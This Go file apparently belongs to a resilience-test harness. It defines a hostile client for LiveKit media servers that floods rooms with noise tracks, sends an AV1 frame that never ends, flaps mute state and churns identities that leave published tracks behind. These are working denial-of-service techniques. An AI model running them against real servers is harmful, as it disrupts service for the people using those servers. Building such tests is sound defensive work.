package hostile

import (
	"context"
	"fmt"
	"time"

	lksdk "github.com/livekit/server-sdk-go/v2"
	"github.com/pion/rtp"
	"github.com/pion/webrtc/v4"
)

const (
	payloadSize = 1100 // bytes of one RTP payload
	av1First    = 0x58 // aggregation header: a unit begins here (N), is cut off (Y), one element (W)
	av1More     = 0xd0 // aggregation header: a unit goes on from before (Z), is cut off (Y), one element (W)
)

// Tracks publishes n tracks of noise, two of three of them video, and returns how many the server
// took. The server tells others of a track when its first packet has come, so some are sent on
// each.
func (a *Attacker) Tracks(ctx context.Context, n int) int {
	var tracks []*webrtc.TrackLocalStaticRTP
	for i := range n {
		codec := webrtc.RTPCodecCapability{MimeType: webrtc.MimeTypeVP8, ClockRate: 90000}
		if i%3 == 0 {
			codec = webrtc.RTPCodecCapability{MimeType: webrtc.MimeTypeOpus, ClockRate: 48000, Channels: 2}
		}
		track, _, err := a.publish(fmt.Sprintf("track %d", i), codec)
		if err != nil || ctx.Err() != nil {
			break
		}
		tracks = append(tracks, track)
		a.noise(ctx, tracks)
	}
	return len(tracks)
}

// noise sends a few packets on each track.
func (a *Attacker) noise(ctx context.Context, tracks []*webrtc.TrackLocalStaticRTP) {
	a.repeat(ctx, 10, 10*time.Millisecond, func(i int) error {
		for _, track := range tracks {
			packet := &rtp.Packet{
				Header:  rtp.Header{Version: 2, SequenceNumber: uint16(i), Timestamp: uint32(i) * 960}, // small
				Payload: []byte{0x10, 1, 2, 3, 4, 5, 6, 7, 8, 9},
			}
			if err := track.WriteRTP(packet); err != nil {
				return err
			}
		}
		return nil
	})
}

func (a *Attacker) publish(name string, codec webrtc.RTPCodecCapability) (*webrtc.TrackLocalStaticRTP, *lksdk.LocalTrackPublication, error) {
	track, err := webrtc.NewTrackLocalStaticRTP(codec, name, name)
	if err != nil {
		return nil, nil, err
	}
	pub, err := a.sdk.LocalParticipant.PublishTrack(track, &lksdk.TrackPublicationOptions{Name: name, VideoWidth: 640, VideoHeight: 480})
	if err != nil {
		return nil, nil, fmt.Errorf("%w: %w", ErrRefused, err)
	}
	return track, pub, nil
}

// EndlessUnit publishes an AV1 track on which one access unit never ends, a packet every interval,
// until ctx ends. It returns the bytes that were sent.
func (a *Attacker) EndlessUnit(ctx context.Context, every time.Duration) (int, error) {
	track, _, err := a.publish("camera", webrtc.RTPCodecCapability{MimeType: webrtc.MimeTypeAV1, ClockRate: 90000})
	if err != nil {
		return 0, err
	}
	sequence := uint16(1)
	payload := make([]byte, payloadSize)
	sent := a.repeat(ctx, 1<<30, every, func(i int) error {
		payload[0], payload[1] = av1More, 0x32 // a frame, of which all that follows is more
		if i == 0 {
			payload[0] = av1First
		}
		sequence++
		return track.WriteRTP(&rtp.Packet{Header: rtp.Header{Version: 2, SequenceNumber: sequence, Timestamp: 90_000}, Payload: payload})
	})
	return sent * payloadSize, nil
}

// Mutes publishes a track and mutes and unmutes it n times.
func (a *Attacker) Mutes(ctx context.Context, n int, every time.Duration) int {
	_, pub, err := a.publish("microphone", webrtc.RTPCodecCapability{MimeType: webrtc.MimeTypeOpus, ClockRate: 48000, Channels: 2})
	if err != nil {
		return 0
	}
	return a.repeat(ctx, n, every, func(i int) error {
		pub.SetMuted(i%2 == 0)
		return nil
	})
}

// ComeAndGo joins n times under new identities, publishes a track and leaves without taking it
// back. It returns how often.
func ComeAndGo(ctx context.Context, cfg Config, n int) int {
	for i := range n {
		one := cfg
		one.Identity = fmt.Sprintf("%s-%d", cfg.Identity, i)
		a, err := Join(ctx, one)
		if err != nil {
			return i
		}
		_, _, err = a.publish("camera", webrtc.RTPCodecCapability{MimeType: webrtc.MimeTypeVP8, ClockRate: 90000})
		a.Close()
		if err != nil {
			return i
		}
	}
	return n
}
